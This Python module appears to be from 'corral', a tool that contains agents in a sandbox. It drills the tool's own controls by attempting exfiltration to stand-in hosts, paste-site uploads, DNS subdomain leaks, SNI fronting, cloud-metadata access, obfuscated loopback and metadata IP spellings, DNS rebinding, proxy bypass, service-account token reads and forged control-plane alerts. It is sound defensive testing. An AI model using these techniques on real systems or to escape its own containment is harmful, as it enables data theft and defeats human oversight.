"""One exercise per drill technique, run in the local lab; each returns what every control did.

Where it sits: ``corral.verify.drill`` calls ``EXERCISES[technique.id](ctx)``; ``corral verify
--local`` calls a few of the same. Network techniques run the probe inside the agent's namespace
and read the gateway's access log for the evidence; admission techniques evaluate the compiled
ValidatingAdmissionPolicy in the real CEL engine (``corral check``'s ``Checker``); process
techniques use ``falcolab`` (sysdig) and post the alert Falco would send to ``corral serve``.

Every judgement needs positive evidence: a refusal counts as ``blocked`` only with the gateway's
403/log line (or the network's failed connection); nothing is assumed from silence.
"""

from __future__ import annotations

import json
import secrets
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from corral.model import records as rec
from corral.model.policy import Agent, Policy
from corral.verify import falcolab, targets
from corral.verify import kubectl as kc
from corral.verify.drill import ControlResult, Exercise
from corral.verify.lab import METADATA, PUBLIC, Lab
from corral.verify.probe import Result

KUBE_API_IP = "10.96.0.1"
TOKEN_DIR = "/var/run/secrets/kubernetes.io/serviceaccount"
UNAPPROVED_IMAGE = "docker.io/library/busybox:1.36"
DRILL_POD = "corral-drill-agent"


@dataclass
class Ctx:
    """The lab and everything an exercise needs; collects incident ids as it goes."""

    lab: Lab
    policy: Policy
    agent: Agent
    token: str = field(default_factory=lambda: secrets.token_hex(3))

    def attempt(self, attempts: list[dict[str, Any]]
                ) -> tuple[dict[str, Result], list[dict[str, Any]]]:
        """Probe results and the access-log lines the attempts produced (by proxied count)."""
        mark = len(self.lab.log_lines())
        results = self.lab.probe(attempts)
        # One counted line (a request, or a tunnel's open) per proxied request: an upload makes
        # as many requests as it reports.
        proxied = sum(int(results.get(a["id"], {}).get("requests", 1)) if a["kind"] == "upload"
                      else 1 for a in attempts if a["kind"] in ("connect", "http", "upload"))
        self.lab.wait_log(lambda _r: sum(map(rec.requests_of, self.lab.log_lines()[mark:]))
                          >= proxied, timeout=3.0)
        return results, self.lab.log_lines()[mark:]


def line_text(line: dict[str, Any]) -> str:
    return (f"log: {line.get(rec.METHOD)} {line.get(rec.HOST)}:{line.get(rec.PORT)} "
            f"{line.get(rec.DECISION)} reason={line.get(rec.REASON)} rule={line.get(rec.RULE)} "
            f"resolved={line.get(rec.RESOLVED)} status={line.get(rec.STATUS)}")


def line_for(lines: list[dict[str, Any]], host: str) -> dict[str, Any] | None:
    found = [x for x in lines if str(x.get(rec.HOST, "")).strip("[]") == host.strip("[]")]
    return found[-1] if found else None


def refused(res: Result, lines: list[dict[str, Any]], host: str) -> tuple[bool, str]:
    """Whether the gateway refused this attempt, with the log line (or probe result) as proof."""
    line = line_for(lines, host)
    denied = line is not None and line.get(rec.DECISION) == "deny"
    if res.get("outcome") == "refused" and res.get("status") in (400, 403, 429):
        proof = line_text(line) if line else f"HTTP {res.get('status')} {res.get('body', '')}"
        return True, proof
    if res.get("outcome") in ("tunnel_closed", "proxy_error") and denied and line is not None:
        return True, line_text(line)
    return False, (line_text(line) if line else "") + f" probe: {_probe(res)}"


def _probe(res: Result) -> str:
    keys = ("outcome", "status", "reason", "origin_body", "error", "sent")
    return " ".join(f"{k}={res[k]}" for k in keys if res.get(k) not in (None, ""))


def gateway_all_refused(ctx: Ctx, attempts: list[dict[str, Any]]) -> ControlResult:
    results, lines = ctx.attempt(attempts)
    proofs: list[str] = []
    missed: list[str] = []
    for a in attempts:
        host = str(a.get("host") or a.get("url", "").split("/")[2].split(":")[0])
        ok, proof = refused(results.get(a["id"], {}), lines, host)
        (proofs if ok else missed).append(f"{a['id']}: {proof}")
    if missed:
        return ControlResult("gateway", "missed", "; ".join(missed))
    return ControlResult("gateway", "blocked", "; ".join(proofs))


def network_all_failed(ctx: Ctx, endpoints: list[tuple[str, int]]) -> ControlResult:
    attempts = [{"id": f"direct-{h}-{p}", "kind": "direct", "host": h, "port": p, "timeout": 1.5}
                for h, p in endpoints]
    results, _ = ctx.attempt(attempts)
    got = {str(a["id"]): str(results.get(str(a["id"]), {}).get("outcome", "missing"))
           for a in attempts}
    opened = [i for i, o in got.items() if o in ("connected", "missing")]
    text = ", ".join(f"{i.removeprefix('direct-')}: {o}" for i, o in got.items())
    return ControlResult("network", "missed" if opened else "blocked", text)


# -- control plane ----------------------------------------------------------------------------

Counts = dict[str, int]


def settled_counts(ctx: Ctx, *, timeout: float = 3.0) -> Counts | str:
    """``incident_counts`` once two reads 0.3 s apart agree: events of the previous technique
    still on their way must not be credited to the next one."""
    deadline = time.monotonic() + timeout
    last = incident_counts(ctx)
    while not isinstance(last, str) and time.monotonic() < deadline:
        time.sleep(0.3)
        now = incident_counts(ctx)
        if now == last:
            return now
        last = now
    return last


def incident_counts(ctx: Ctx) -> Counts | str:
    """Incident id -> event count at ``corral serve`` for the agent, or why it cannot be read."""
    if ctx.lab.control is None:
        return "corral serve is not running"
    try:
        status, body = ctx.lab.http(
            "GET", f"{ctx.lab.control_url}/v1/incidents?agent={ctx.agent.name}&limit=1000",
            token=ctx.lab.admin_token)
    except OSError as exc:
        return f"corral serve did not answer: {exc}"
    if status != 200 or not isinstance(body, dict):
        return f"GET /v1/incidents answered {status}: {str(body)[:200]}"
    return {str(i.get("id")): int(i.get("count") or 0) for i in body.get("incidents", [])}


def control_seen(ctx: Ctx, before: Counts | str, what: str, *,
                 timeout: float = 4.0) -> ControlResult:
    """``detected`` once an incident of the agent counts more events than ``before`` (the event
    was folded in: correlation groups gateway denials and Falco alerts of one agent)."""
    if isinstance(before, str):
        return ControlResult("control-plane", "not_available", before)
    deadline = time.monotonic() + timeout
    while True:
        now = incident_counts(ctx)
        if isinstance(now, str):
            return ControlResult("control-plane", "error", now)
        grown = {i: n for i, n in now.items() if n > before.get(i, 0)}
        if grown:
            inc, n = sorted(grown.items())[0]
            return ControlResult("control-plane", "detected",
                                 f"incident {inc} folded in {what} ({before.get(inc, 0)} -> "
                                 f"{n} events)")
        if time.monotonic() > deadline:
            return ControlResult("control-plane", "missed", f"no incident of agent "
                                 f"{ctx.agent.name!r} grew after {what} within {timeout:g}s")
        time.sleep(0.1)


def falco_alert(ctx: Ctx, kind: str, process: str, parent: str) -> ControlResult:
    """Post the alert Falco would send for ``kind`` and find the incident it opened."""
    before = settled_counts(ctx)
    if isinstance(before, str):
        return ControlResult("control-plane", "not_available", before)
    pod = f"{DRILL_POD}-{ctx.token}"
    body = json.dumps(falcolab.alert(ctx.policy, ctx.agent, kind,  # type: ignore[arg-type]
                                     pod=pod, process=process, parent=parent)).encode()
    try:
        status, answer = ctx.lab.http("POST", f"{ctx.lab.control_url}/v1/falco", body,
                                      token=ctx.lab.ingest_token)
    except OSError as exc:
        return ControlResult("control-plane", "not_available", f"corral serve did not answer: "
                             f"{exc}")
    if status != 200:
        return ControlResult("control-plane", "missed", f"POST /v1/falco: {status} {answer}")
    found = control_seen(ctx, before, f"the {kind} alert for pod {pod}")
    return ControlResult(found.control, found.result, found.evidence + " (alert shaped as "
                         "Falco's http_output, posted by the drill)", "replay")


def falco_result(ev: falcolab.Evidence, detected: bool = True) -> ControlResult:
    result = "detected" if (ev.ok and detected) else "missed"
    return ControlResult("falco", result, ev.text, ev.basis)  # type: ignore[arg-type]


def _falco_unavailable() -> ControlResult | None:
    why = falcolab.unavailable_reason()
    return ControlResult("falco", "not_available", why) if why else None


# -- admission ----------------------------------------------------------------------------------

def admission(ctx: Ctx, pod: dict[str, Any], control: str) -> ControlResult:
    """Evaluate the compiled ValidatingAdmissionPolicy on ``pod`` in the real CEL engine."""
    try:
        from corral.check.engine import Checker  # noqa: PLC0415 - optional layer
        from corral.check.read import Document  # noqa: PLC0415
    except ImportError as exc:
        return ControlResult("admission", "not_available", f"corral check is not built: {exc}")
    outcome = Checker(ctx.policy).check(Document("drill", 0, pod))
    hits = [v for v in outcome.violations if v.control == control]
    if outcome.skipped:
        return ControlResult("admission", "missed", f"not checked: {outcome.skipped}", "engine")
    if hits:
        return ControlResult("admission", "blocked",
                             f"ValidatingAdmissionPolicy ({hits[0].control}): {hits[0].message}",
                             "engine")
    others = ", ".join(v.control for v in outcome.violations) or "none"
    return ControlResult("admission", "missed",
                         f"control {control!r} did not refuse it (other violations: {others})",
                         "engine")


def drill_pod(ctx: Ctx, image: str) -> dict[str, Any]:
    return kc.test_pod(ctx.policy, ctx.agent, name=f"{DRILL_POD}-{ctx.token}",
                       run_id=ctx.token, image=image, command=kc.sleeper_command(60))


# -- the exercises --------------------------------------------------------------------------------

def exfil_new_domain(ctx: Ctx) -> list[ControlResult]:
    host = f"exfil-{ctx.token}.example"
    before = settled_counts(ctx)
    gw = gateway_all_refused(ctx, [{"id": "upload", "kind": "upload",
                                    "url": f"http://{host}/collect", "total": 65536,
                                    "chunk": 65536}])
    return [gw, control_seen(ctx, before, f"the denial of {host}")]


def exfil_paste_site(ctx: Ctx) -> list[ControlResult]:
    attempts = [{"id": h, "kind": "connect", "host": h, "port": 443}
                for h in ("pastebin.com", "paste.ee", "gist.githubusercontent.com")]
    before = settled_counts(ctx)
    return [gateway_all_refused(ctx, attempts),
            control_seen(ctx, before, "the paste-site denials")]


def dns_subdomain_exfil(ctx: Ctx) -> list[ControlResult]:
    data = secrets.token_hex(16)
    host = f"{data[:16]}.{data[16:]}.t.exfil-{ctx.token}.example"
    gw = gateway_all_refused(ctx, [{"id": "dns", "kind": "connect", "host": host, "port": 443}])
    lab_dns = ctx.lab.bed.workdir / "labservers.log"
    asked = host in (lab_dns.read_text(errors="replace") if lab_dns.exists() else "")
    if gw.result == "blocked" and asked:
        return [ControlResult("gateway", "missed", gw.evidence + "; but the name was resolved: "
                              "the data reached a DNS server")]
    note = "; the lab's DNS server never saw the name" if not asked else ""
    return [ControlResult(gw.control, gw.result, gw.evidence + note)]


def cdn_front(ctx: Ctx) -> list[ControlResult]:
    ok = targets.allowed(ctx.agent)
    front = f"tenant-{ctx.token}.cloudfront.net"
    results, lines = ctx.attempt([{"id": "front", "kind": "connect", "host": ok.host,
                                   "port": ok.port, "sni": front}])
    res, line = results.get("front", {}), line_for(lines, ok.host)
    if line and line.get(rec.REASON) == "sni_mismatch" and res.get("outcome") != "reached":
        return [ControlResult("gateway", "blocked", f"CONNECT {ok.authority} with SNI {front}: "
                              + line_text(line) + f" sni={line.get(rec.SNI)}")]
    return [ControlResult("gateway", "missed", f"SNI {front} inside CONNECT {ok.authority}: "
                          f"{_probe(res)} {line_text(line) if line else ''}")]


def cloud_metadata(ctx: Ctx) -> list[ControlResult]:
    net = network_all_failed(ctx, [(METADATA, 80)])
    gw = gateway_all_refused(ctx, [
        {"id": "by-ip", "kind": "http", "url": f"http://{METADATA}/latest/meta-data/"},
        {"id": "by-name", "kind": "connect", "host": ctx.lab.names.metadata, "port": 443},
    ])
    return [net, gw]


IP_SPELLINGS = ("2130706433", "0177.0.0.1", "0x7f.0.0.1", "127.1", "::ffff:7f00:1",
                "::ffff:a9fe:a9fe", "0xa9.0xfe.0xa9.0xfe", "169.254.169.254", "017700000001")


def ip_literals(ctx: Ctx) -> list[ControlResult]:
    spellings = (*IP_SPELLINGS, ctx.lab.private)
    attempts = [{"id": s, "kind": "connect", "host": s, "port": 443} for s in spellings]
    results, lines = ctx.attempt(attempts)
    missed, seen = [], []
    for s in spellings:
        res = results.get(s, {})
        if res.get("outcome") == "refused" and res.get("status") in (400, 403):
            seen.append(f"{s}->{res.get('status')} {res.get('reason')}")
        else:
            missed.append(f"{s}: {_probe(res)}")
    if missed:
        return [ControlResult("gateway", "missed", "; ".join(missed))]
    return [ControlResult("gateway", "blocked", f"{len(seen)} spellings refused: "
                          + ", ".join(seen) + f" ({len(lines)} log lines)")]


def rebinding(ctx: Ctx) -> list[ControlResult]:
    name = ctx.lab.names.rebind
    results, lines = ctx.attempt([{"id": f"r{i}", "kind": "connect", "host": name, "port": 443}
                                  for i in range(2)])
    bodies = [str(results.get(f"r{i}", {}).get("origin_body", "")) for i in range(2)]
    reached_private = any(ctx.lab.private in b for b in bodies)
    dialled = [str(x.get(rec.RESOLVED)) for x in lines if x.get(rec.DECISION) != "deny"]
    text = f"DNS answers {PUBLIC}, then {ctx.lab.private}; the gateway dialled {dialled}: " + \
           "; ".join(line_text(x) for x in lines)
    if reached_private or ctx.lab.private in dialled:
        return [ControlResult("gateway", "missed", "reached the private address: " + text)]
    return [ControlResult("gateway", "blocked", text)]


def bypass_proxy(ctx: Ctx) -> list[ControlResult]:
    gw_ip = ctx.lab.zones.gateway_ip
    ports = ctx.policy.spec.listener_ports()
    endpoints = [(PUBLIC, 443), (PUBLIC, 80), (ctx.lab.zones.inet_ip, 53),
                 (gw_ip, ctx.policy.spec.gateway.admin_port)]
    endpoints += [(gw_ip, p) for name, p in ports.items() if name != ctx.agent.name]
    return [network_all_failed(ctx, endpoints)]


def byte_quota(ctx: Ctx) -> list[ControlResult]:
    quota = ctx.agent.egress.quota
    if quota is None:
        return [ControlResult("gateway", "missed", f"agent {ctx.agent.name!r} has no "
                              "egress.quota: nothing limits slow exfiltration")]
    limit = quota.bytes_out_per_hour
    chunk = max(1 << 20, limit // 16)
    url = f"http://{ctx.lab.names.public}/upload"
    results, lines = ctx.attempt([{"id": "q", "kind": "upload", "url": url,
                                   "total": limit + 2 * chunk, "chunk": chunk, "timeout": 10,
                                   "budget": 60}])
    res = results.get("q", {})
    over = [x for x in lines if x.get(rec.REASON) == "quota_exceeded"]
    if over and res.get("outcome") != "reached":
        return [ControlResult("gateway", "blocked", f"stopped after {res.get('sent')} of "
                              f"{limit} bytes/hour ({res.get('outcome')}): "
                              + line_text(over[0]))]
    return [ControlResult("gateway", "missed", f"quota {limit}: {_probe(res)}")]


def unapproved_image(ctx: Ctx) -> list[ControlResult]:
    return [admission(ctx, drill_pod(ctx, UNAPPROVED_IMAGE), "registries")]


def run_shell(ctx: Ctx) -> list[ControlResult]:
    unavailable = _falco_unavailable()
    falco = unavailable or falco_result(falcolab.replay(ctx.policy, ctx.agent, "shell"))
    return [falco, falco_alert(ctx, "shell", "sh", "python3")]


def package_manager(ctx: Ctx) -> list[ControlResult]:
    unavailable = _falco_unavailable()
    falco = unavailable or falco_result(
        falcolab.compiled(ctx.policy, ctx.agent, "package_tool", "pip"))
    return [falco, falco_alert(ctx, "package_tool", "pip", "python3")]


def read_sa_token(ctx: Ctx) -> list[ControlResult]:
    pod = drill_pod(ctx, ctx.policy.spec.gateway.image)
    pod["spec"]["automountServiceAccountToken"] = True
    unavailable = _falco_unavailable()
    falco = unavailable or falco_result(
        falcolab.compiled(ctx.policy, ctx.agent, "sa_token", TOKEN_DIR))
    return [admission(ctx, pod, "automount_token"), falco]


def kube_api(ctx: Ctx) -> list[ControlResult]:
    net = network_all_failed(ctx, [(KUBE_API_IP, 443)])
    gw = gateway_all_refused(ctx, [
        {"id": "svc", "kind": "connect", "host": "kubernetes.default.svc", "port": 443},
        {"id": "ip", "kind": "connect", "host": KUBE_API_IP, "port": 443},
    ])
    unavailable = _falco_unavailable()
    falco = unavailable or falco_result(
        falcolab.compiled(ctx.policy, ctx.agent, "kube_api", KUBE_API_IP))
    return [net, gw, falco]


def forge_control(ctx: Ctx) -> list[ControlResult]:
    """A neighbour with network access to ``corral serve`` (the gateway namespace's loopback)
    forges a critical Falco alert for the agent and tries to release it: without credentials,
    with a wrong token, and (release) with the ingest token. Every call must get 401, and the
    agent's incidents must not grow."""
    if ctx.lab.control is None:
        return [ControlResult("control-plane", "not_available", "corral serve is not running")]
    before = settled_counts(ctx)
    forged = json.dumps({"rule": "Forged alert", "priority": "Critical",
                         "time": "2026-11-26T12:01:58.000000000Z", "output": "forged",
                         "tags": [f"corral.agent:{ctx.agent.name}"], "output_fields": {}})
    base, agent = ctx.lab.control_url, ctx.agent.name
    calls = [("POST", "/v1/falco", forged.encode(), None),
             ("POST", "/v1/falco", forged.encode(), "forged-" + ctx.token),
             ("POST", "/v1/gateway", b'{"kind":"access"}', None),
             ("POST", f"/v1/agents/{agent}/release", b"", None),
             ("POST", f"/v1/agents/{agent}/release", b"", ctx.lab.ingest_token),
             ("POST", f"/v1/agents/{agent}/quarantine", b"", ctx.lab.ingest_token)]
    seen = []
    for method, path, body, token in calls:
        try:
            status, _ = ctx.lab.http(method, base + path, body, token=token)
        except OSError as exc:
            return [ControlResult("control-plane", "error", f"{path}: {exc}")]
        cred = "no credential" if token is None else (
            "the ingest token" if token == ctx.lab.ingest_token else "a wrong token")
        seen.append(f"{method} {path} with {cred}: {status}")
        if status != 401:
            return [ControlResult("control-plane", "missed", "; ".join(seen))]
    after = settled_counts(ctx)
    if isinstance(before, dict) and isinstance(after, dict) and after != before:
        return [ControlResult("control-plane", "missed", "the forged alert reached an "
                              f"incident: {before} -> {after}")]
    return [ControlResult("control-plane", "blocked", "; ".join(seen))]


EXERCISES: dict[str, Exercise] = {
    "exfil-new-domain": exfil_new_domain,
    "exfil-paste-site": exfil_paste_site,
    "dns-subdomain-exfil": dns_subdomain_exfil,
    "cdn-front-sni-mismatch": cdn_front,
    "cloud-metadata": cloud_metadata,
    "ip-literal-spellings": ip_literals,
    "dns-rebinding": rebinding,
    "bypass-proxy": bypass_proxy,
    "byte-quota": byte_quota,
    "unapproved-image": unapproved_image,
    "run-shell": run_shell,
    "package-manager": package_manager,
    "read-sa-token": read_sa_token,
    "kube-api": kube_api,
    "forge-control-event": forge_control,
}

Runner = Callable[[Ctx], list[ControlResult]]
